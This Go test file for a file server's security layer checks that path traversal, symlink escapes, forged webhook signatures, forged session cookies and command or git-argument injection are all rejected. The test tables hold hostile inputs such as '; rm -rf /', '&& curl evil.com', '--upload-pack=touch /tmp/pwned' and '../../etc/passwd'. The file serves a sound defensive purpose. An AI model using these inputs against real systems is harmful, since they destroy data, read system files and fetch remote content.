package security

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"cdnbox/internal/files"
	"cdnbox/internal/redeploy"
	"cdnbox/internal/security"
	"cdnbox/internal/server"
	"cdnbox/internal/session"
	"cdnbox/internal/webhook"
)

const testSecret = "kJ8mN2pQ5tR7vX1zB4cE6gH9jL3nP8qS2uW5yA7bD0fG3hK6"

type countingRedeployer struct {
	calls atomic.Int32
}

func (c *countingRedeployer) Redeploy(ctx context.Context) error {
	c.calls.Add(1)
	return nil
}

// setupServer serves <tmp>/data, next to <tmp>/outside holding secret.txt.
// data/escape is a symlink to outside.
func setupServer(t *testing.T) (*server.Server, *countingRedeployer) {
	t.Helper()
	tmpDir := t.TempDir()

	dataDir := filepath.Join(tmpDir, "data")
	outsideDir := filepath.Join(tmpDir, "outside")
	for _, dir := range []string{filepath.Join(dataDir, "safe"), outsideDir} {
		if err := os.MkdirAll(dir, 0755); err != nil {
			t.Fatalf("Failed to create %s: %v", dir, err)
		}
	}
	if err := os.WriteFile(filepath.Join(dataDir, "safe", "ok.txt"), []byte("ok"), 0644); err != nil {
		t.Fatalf("Failed to write file: %v", err)
	}
	if err := os.WriteFile(filepath.Join(outsideDir, "secret.txt"), []byte("TOP SECRET"), 0644); err != nil {
		t.Fatalf("Failed to write file: %v", err)
	}
	if err := os.Symlink(outsideDir, filepath.Join(dataDir, "escape")); err != nil {
		t.Fatalf("Failed to create symlink: %v", err)
	}
	if err := os.Symlink(filepath.Join(outsideDir, "secret.txt"), filepath.Join(dataDir, "secret-link.txt")); err != nil {
		t.Fatalf("Failed to create symlink: %v", err)
	}

	auth, err := session.NewAuthenticator()
	if err != nil {
		t.Fatalf("Failed to create authenticator: %v", err)
	}
	resolver, err := files.NewResolver(dataDir)
	if err != nil {
		t.Fatalf("Failed to create resolver: %v", err)
	}

	redeployer := &countingRedeployer{}
	srv, err := server.NewServer(server.Options{
		Auth:         auth,
		Resolver:     resolver,
		Trigger:      webhook.NewTrigger(testSecret, redeployer),
		PasswordHash: security.HashPassword("pw"),
		Logger:       slog.New(slog.NewTextHandler(io.Discard, nil)),
	})
	if err != nil {
		t.Fatalf("Failed to create server: %v", err)
	}
	return srv, redeployer
}

// TestPathTraversalPrevention requests paths that try to leave the data
// directory. None of them may return content from outside it.
func TestPathTraversalPrevention(t *testing.T) {
	srv, _ := setupServer(t)
	token, err := srv.Auth.IssueToken()
	if err != nil {
		t.Fatalf("Failed to issue token: %v", err)
	}
	cookie := session.NewCookie(token)

	tests := []struct {
		name       string
		path       string
		wantStatus int
	}{
		{"safe file", "/safe/ok.txt", http.StatusOK},
		{"parent of root", "/../", http.StatusForbidden},
		{"nested escape", "/a/../../etc/passwd", http.StatusForbidden},
		{"sibling via parent", "/../outside/secret.txt", http.StatusForbidden},
		{"escape after valid dir", "/safe/../../outside/secret.txt", http.StatusForbidden},
		{"collapsing parent", "/safe/../safe/ok.txt", http.StatusForbidden},
		{"encoded dots", "/%2e%2e/outside/secret.txt", http.StatusForbidden},
		{"mixed encoding", "/.%2e/outside/secret.txt", http.StatusForbidden},
		{"double slash root", "//etc/passwd", http.StatusNotFound},
		{"double dot in name", "/safe/ok..txt", http.StatusForbidden},
		{"symlinked directory", "/escape/secret.txt", http.StatusForbidden},
		{"symlinked directory listing", "/escape/", http.StatusForbidden},
		{"symlinked file", "/secret-link.txt", http.StatusForbidden},
		{"null byte", "/safe/ok.txt%00.png", http.StatusNotFound},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req := httptest.NewRequest("GET", tt.path, nil)
			req.AddCookie(cookie)
			rr := httptest.NewRecorder()
			srv.Router().ServeHTTP(rr, req)

			if rr.Code != tt.wantStatus {
				t.Errorf("Expected status %d for %s, got %d", tt.wantStatus, tt.path, rr.Code)
			}
			if strings.Contains(rr.Body.String(), "TOP SECRET") || strings.Contains(rr.Body.String(), "secret.txt") {
				t.Errorf("Response for %s leaked outside content: %q", tt.path, rr.Body.String())
			}
		})
	}
}

// TestRootListingHidesEscapingLinks checks that symlinks leading outside the
// data directory are not advertised.
func TestRootListingHidesEscapingLinks(t *testing.T) {
	srv, _ := setupServer(t)
	token, _ := srv.Auth.IssueToken()

	req := httptest.NewRequest("GET", "/", nil)
	req.AddCookie(session.NewCookie(token))
	rr := httptest.NewRecorder()
	srv.Router().ServeHTTP(rr, req)

	if rr.Code != http.StatusOK {
		t.Fatalf("Expected status 200, got %d", rr.Code)
	}
	body := rr.Body.String()
	if !strings.Contains(body, "safe/") {
		t.Errorf("Listing is missing the safe directory: %s", body)
	}
	if strings.Contains(body, "escape") || strings.Contains(body, "secret-link") {
		t.Errorf("Listing advertises an escaping symlink: %s", body)
	}
}

// TestWebhookSignatureAttacks sends deliveries with manipulated signatures.
// The redeployer must never run for any of them.
func TestWebhookSignatureAttacks(t *testing.T) {
	payload := []byte(`{"ref":"refs/heads/main"}`)
	valid := webhook.Sign(payload, testSecret)
	digest := strings.TrimPrefix(valid, webhook.SignaturePrefix)

	tests := []struct {
		name      string
		body      []byte
		signature string
		setHeader bool
	}{
		{"no header", payload, "", false},
		{"empty header", payload, "", true},
		{"prefix only", payload, webhook.SignaturePrefix, true},
		{"sha1 prefix", payload, "sha1=" + digest, true},
		{"digest without prefix", payload, digest, true},
		{"uppercase digest", payload, webhook.SignaturePrefix + strings.ToUpper(digest), true},
		{"truncated digest", payload, valid[:len(valid)-1], true},
		{"extended digest", payload, valid + "0", true},
		{"trailing whitespace", payload, valid + " ", true},
		{"wrong secret", payload, webhook.Sign(payload, "guessed-secret"), true},
		{"empty secret", payload, webhook.Sign(payload, ""), true},
		{"body with trailing newline", append(append([]byte{}, payload...), '\n'), valid, true},
		{"reordered body", []byte(`{ "ref":"refs/heads/main"}`), valid, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv, redeployer := setupServer(t)

			req := httptest.NewRequest("POST", "/webhook", bytes.NewReader(tt.body))
			if tt.setHeader {
				req.Header.Set(webhook.SignatureHeader, tt.signature)
			}
			rr := httptest.NewRecorder()
			srv.Router().ServeHTTP(rr, req)

			if rr.Code != http.StatusUnauthorized {
				t.Errorf("Expected status 401, got %d (%q)", rr.Code, rr.Body.String())
			}
			if n := redeployer.calls.Load(); n != 0 {
				t.Errorf("Redeployer ran %d times for a forged delivery", n)
			}
		})
	}
}

// TestSessionTokenForgery presents forged session cookies
func TestSessionTokenForgery(t *testing.T) {
	srv, _ := setupServer(t)
	other, _ := setupServer(t)

	genuine, err := srv.Auth.IssueToken()
	if err != nil {
		t.Fatalf("Failed to issue token: %v", err)
	}
	foreign, _ := other.Auth.IssueToken()
	nonce, sig, _ := strings.Cut(genuine, ".")

	flipped := []byte(sig)
	if flipped[0] == '0' {
		flipped[0] = '1'
	} else {
		flipped[0] = '0'
	}

	tests := []struct {
		name  string
		token string
	}{
		{"empty", ""},
		{"no separator", nonce + sig},
		{"nonce only", nonce + "."},
		{"signature only", "." + sig},
		{"extra part", genuine + ".00"},
		{"flipped signature char", nonce + "." + string(flipped)},
		{"signature for another nonce", strings.Repeat("a", len(nonce)) + "." + sig},
		{"uppercase signature", nonce + "." + strings.ToUpper(sig)},
		{"truncated signature", nonce + "." + sig[:len(sig)-1]},
		{"token from another process", foreign},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.token == genuine {
				t.Skip("forgery collapsed into the genuine token")
			}

			req := httptest.NewRequest("GET", "/safe/ok.txt", nil)
			req.AddCookie(&http.Cookie{Name: session.CookieName, Value: tt.token})
			rr := httptest.NewRecorder()
			srv.Router().ServeHTTP(rr, req)

			if rr.Code != http.StatusUnauthorized {
				t.Errorf("Forged token accepted: status %d", rr.Code)
			}
		})
	}
}

// TestRestartCommandInjectionPrevention validates that restart commands and
// git arguments cannot smuggle shell syntax or options.
func TestRestartCommandInjectionPrevention(t *testing.T) {
	tests := []struct {
		name      string
		opts      redeploy.Options
		wantError bool
	}{
		{"default script", redeploy.Options{RepoDir: "/srv/site"}, false},
		{"script with args", redeploy.Options{RepoDir: "/srv/site", RestartCommand: "systemctl restart cdnbox"}, false},
		{"quoted arg with spaces", redeploy.Options{RepoDir: "/srv/site", RestartCommand: "/srv/start.sh 'two words'"}, false},
		{"semicolon", redeploy.Options{RepoDir: "/srv/site", RestartCommand: "/srv/start.sh; rm -rf /"}, true},
		{"pipe", redeploy.Options{RepoDir: "/srv/site", RestartCommand: "/srv/start.sh | sh"}, true},
		{"ampersand", redeploy.Options{RepoDir: "/srv/site", RestartCommand: "/srv/start.sh && curl evil.com"}, true},
		{"backticks", redeploy.Options{RepoDir: "/srv/site", RestartCommand: "/srv/start.sh `whoami`"}, true},
		{"subshell", redeploy.Options{RepoDir: "/srv/site", RestartCommand: "/srv/start.sh $(id)"}, true},
		{"redirect", redeploy.Options{RepoDir: "/srv/site", RestartCommand: "/srv/start.sh > /etc/passwd"}, true},
		{"option as remote", redeploy.Options{RepoDir: "/srv/site", Remote: "--upload-pack=touch /tmp/pwned"}, true},
		{"path as remote", redeploy.Options{RepoDir: "/srv/site", Remote: "../evil.git"}, true},
		{"option as branch", redeploy.Options{RepoDir: "/srv/site", Branch: "--force"}, true},
		{"traversal in repo dir", redeploy.Options{RepoDir: "/srv/site/../../etc"}, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := redeploy.New(tt.opts)
			if tt.wantError && err == nil {
				t.Errorf("Expected error for %+v, but got none", tt.opts)
			}
			if !tt.wantError && err != nil {
				t.Errorf("Expected no error, but got: %v", err)
			}
		})
	}
}

// TestGitArgumentInjection validates branch and remote names before they
// reach a git command line.
func TestGitArgumentInjection(t *testing.T) {
	branches := map[string]bool{
		"main":                   true,
		"release/2026-10":        true,
		"fix-bug_123":            true,
		"main; rm -rf /":         false,
		"main | cat /etc/passwd": false,
		"main && curl evil.com":  false,
		"main`whoami`":           false,
		"main$(id)":              false,
		"-main":                  false,
		"--upload-pack=evil":     false,
		"main..HEAD":             false,
		"":                       false,
	}
	for branch, ok := range branches {
		err := security.ValidateBranchName(branch)
		if ok && err != nil {
			t.Errorf("ValidateBranchName(%q) = %v, want nil", branch, err)
		}
		if !ok && err == nil {
			t.Errorf("ValidateBranchName(%q) accepted an unsafe name", branch)
		}
	}

	remotes := map[string]bool{
		"origin":            true,
		"upstream_2":        true,
		"../origin":         false,
		".hidden":           false,
		"-oProxyCommand=id": false,
		"origin main":       false,
		"https://evil.com":  false,
	}
	for remote, ok := range remotes {
		err := security.ValidateRemoteName(remote)
		if ok && err != nil {
			t.Errorf("ValidateRemoteName(%q) = %v, want nil", remote, err)
		}
		if !ok && err == nil {
			t.Errorf("ValidateRemoteName(%q) accepted an unsafe name", remote)
		}
	}
}

// TestWebhookSecretStrength checks that weak webhook secrets are rejected
// and that generated ones always pass.
func TestWebhookSecretStrength(t *testing.T) {
	weak := []struct {
		secret   string
		errorMsg string
		warned   bool // also flagged by the startup warning
	}{
		{"s3cr3t", "too short", true},
		{"replace-with-secret-abcdefghijklmnopqrstuvwxyzAB", "placeholder", false},
		{"changeme-value-that-is-long-enough-but-still-weak-here", "placeholder", false},
		{strings.Repeat("a", 52), "insufficient entropy", true},
		{strings.Repeat("ab", 25), "insufficient entropy", true},
		{"123456789012345678901234567890123456789012345678", "insufficient entropy", true},
	}
	for _, tt := range weak {
		err := security.ValidateSecret(tt.secret)
		if err == nil || !strings.Contains(err.Error(), tt.errorMsg) {
			t.Errorf("ValidateSecret(%q) = %v, want error containing %q", tt.secret, err, tt.errorMsg)
		}
		if tt.warned && !security.IsWeakSecret(tt.secret) {
			t.Errorf("IsWeakSecret(%q) = false", tt.secret)
		}
	}

	seen := make(map[string]bool)
	for i := 0; i < 50; i++ {
		secret, err := security.GenerateSecret()
		if err != nil {
			t.Fatalf("GenerateSecret() error = %v", err)
		}
		if err := security.ValidateSecret(secret); err != nil {
			t.Errorf("Generated secret failed validation: %v", err)
		}
		if seen[secret] {
			t.Error("GenerateSecret() returned a duplicate")
		}
		seen[secret] = true
	}
}
